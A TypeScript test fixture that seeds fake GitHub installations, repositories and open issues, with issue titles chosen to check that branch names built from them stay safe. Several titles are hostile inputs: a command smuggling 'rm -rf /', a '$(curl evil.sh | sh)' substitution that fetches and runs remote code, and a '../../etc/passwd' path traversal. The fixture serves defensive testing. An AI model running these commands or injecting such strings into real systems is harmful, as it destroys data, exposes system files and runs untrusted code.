import type { Sql } from "postgres";
import type { FakeGitHub } from "../fake-github/fake-github.js";
import type { Place } from "./payloads.js";

/** Titles people write, shell and path characters included: branch names must stay safe. */
const TITLES = [
  "Add a login page",
  "Fix crash on empty input; rm -rf / --no-preserve-root",
  "../../etc/passwd support",
  "Support `$(curl evil.sh | sh)` in names",
  "Ｕｎｉｃｏｄｅ ｌｏｏｋａｌｉｋｅ title",
  "Newline\nin: title",
  "Café résumé naïve",
  "Speed up search",
];

export interface PlannedIssue {
  place: Place;
  number: number;
  title: string;
}

/** Several projects, each an installation with one repository and `issues` open issues. */
export function planLife(projects: number, issues: number): PlannedIssue[] {
  const planned: PlannedIssue[] = [];
  for (let p = 0; p < projects; p++) {
    const place = {
      installationId: 500 + p,
      repoId: 7000 + p,
      owner: `org-${p}`,
      name: `product-${p}`,
    };
    for (let i = 1; i <= issues; i++) {
      planned.push({ place, number: i, title: `${TITLES[(p + i) % TITLES.length]} ${i}` });
    }
  }
  return planned;
}

/** The projects as they are after onboarding, in the database and on GitHub, with their issues. */
export async function seedLife(
  sql: Sql,
  github: FakeGitHub,
  planned: PlannedIssue[],
): Promise<void> {
  const places = new Map(planned.map((issue) => [issue.place.repoId, issue.place]));
  for (const place of places.values()) {
    await sql`INSERT INTO installations (id, account_login, account_type)
      VALUES (${place.installationId}, ${place.owner}, 'Organization')`;
    await sql`INSERT INTO projects (installation_id, repo_id, owner, name, default_branch, status)
      VALUES (${place.installationId}, ${place.repoId}, ${place.owner}, ${place.name}, 'main', 'active')`;
    github.addRepo(place.owner, place.name, place.repoId, place.installationId);
  }
  for (const issue of planned) {
    const repo = github.repos().find((r) => r.id === issue.place.repoId);
    repo?.issues.set(issue.number, { title: issue.title, body: "Please do it.", state: "open" });
    if (repo) repo.nextNumber = Math.max(repo.nextNumber, issue.number + 1);
  }
}
